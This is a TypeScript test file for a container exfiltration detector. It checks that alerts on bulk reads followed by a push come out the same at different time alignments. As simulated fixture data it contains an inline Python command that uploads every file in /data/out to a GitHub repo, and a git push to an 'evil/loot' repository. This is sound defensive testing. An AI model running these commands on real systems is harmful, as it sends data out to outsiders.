/**
 * The read window must not depend on where the push falls within a read bucket (one minute by default):
 * the same event sequence shifted by sub-minute offsets gives the same alert, with the same read total.
 * Reads by the pushing lineage while its push is pending are part of the push (a streaming uploader reads
 * as it sends); reads by other processes count up to push + pushSettleMs, never later.
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { MiB, run, Scenario, T0 } from './builder.js';

const API_GITHUB_IP = '140.82.112.5';
const SCRIPT = `-c "import requests,glob;[requests.put('https://api.github.com/repos/x/y/contents/'+f,data=open(f).read()) for f in glob.glob('/data/out/*')]"`;
const OFFSETS_MS = [0, 20_000, 40_000, 59_900];

/**
 * 40 MiB read by the app before the push; then an inline Python uploader that reads 30 MiB (1 MiB a second,
 * well past the 10 s settle time) while sending; a 2 MiB read by another process just inside the settle
 * time (counted) and 30 MiB read by it after the settle time (never counted).
 */
function sequence(source: SensorSource, startMs: number) {
  const s = new Scenario({ source, startMs });
  const c = s.container();
  const sh = s.init(c);
  s.readMany(sh, '/srv/app', 40, MiB, 500);
  s.wait(5_000);
  const pushAt = s.now;
  const py = s.exec(c, '/usr/bin/python3.11', SCRIPT, { parent: sh });
  const cat = s.exec(c, '/usr/bin/cat', '/var/log/app/a.log', { parent: sh, at: pushAt + 1 });
  s.read(cat, '/var/log/app/in-settle.log', 2 * MiB, { at: pushAt + 9_900 });
  for (let i = 0; i < 30; i++) {
    const at = pushAt + 100 + i * 1_000;
    s.read(py, `/data/out/part-${i}`, MiB, { at });
    s.send(py, API_GITHUB_IP, 443, MiB, { at: at + 50 });
    s.read(cat, `/var/log/app/late-${i}.log`, MiB, { at: pushAt + 11_000 + i * 900 });
  }
  s.exit(py, { at: pushAt + 31_000 });
  return s.events.sort((a, b) => a.timeMs - b.timeMs);
}

describe('read window alignment', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: the same sequence at sub-minute offsets gives the same alert and read total`, () => {
      const seen = OFFSETS_MS.map((offset) => {
        const { alerts } = run(sequence(source, T0 + offset));
        return alerts.map((a) => ({
          rule: a.rule,
          severity: a.severity,
          bytes: a.reads.bytes,
          files: a.reads.files,
          windowEndOffsetMs: Date.parse(a.window.end) - (T0 + offset),
        }));
      });
      // 40 MiB before, the uploader's own 30 MiB, the other process's 2 MiB inside the settle time.
      const expected = [
        {
          rule: 'bulk-read-then-push',
          severity: 'high',
          bytes: 72 * MiB,
          files: 71,
          windowEndOffsetMs: seen[0]?.[0]?.windowEndOffsetMs,
        },
      ];
      for (const alerts of seen) expect(alerts).toEqual(expected);
      // The window ends at the uploader's last read (push + 29.1 s), not at the settle time.
      expect(seen[0]?.[0]?.windowEndOffsetMs).toBe(40 * 500 + 5_000 + 100 + 29_000);
    });
  }

  it('reads by other processes after push + pushSettleMs never count, whatever the alignment', () => {
    for (const offset of OFFSETS_MS) {
      const s = new Scenario({ startMs: T0 + offset });
      const c = s.container();
      const sh = s.init(c);
      s.readMany(sh, '/srv/app', 9, MiB, 100);
      const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
      const pushAt = s.now;
      s.exit(git, { at: pushAt + 2_000 });
      // 60 MiB by the app 10.5 s to 20 s after the push: after the settle time, not part of it.
      for (let i = 0; i < 60; i++) s.read(sh, `/srv/late/f${i}`, MiB, { at: pushAt + 10_500 + i * 150 });
      const { alerts } = run(s.events);
      expect(alerts.map((a) => [a.rule, a.severity, a.reads.bytes, a.reads.files])).toEqual([
        ['push-after-moderate-reads', 'medium', 9 * MiB, 9],
      ]);
    }
  });
});
